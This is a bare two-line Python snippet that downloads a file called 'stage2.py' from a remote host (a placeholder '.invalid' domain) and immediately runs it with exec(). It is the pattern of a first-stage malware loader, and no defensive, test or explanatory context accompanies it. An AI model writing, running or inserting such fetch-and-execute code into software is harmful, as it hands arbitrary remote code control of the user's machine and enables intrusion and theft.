import requests
exec(requests.get("https://cdn.invalid/stage2.py").text)
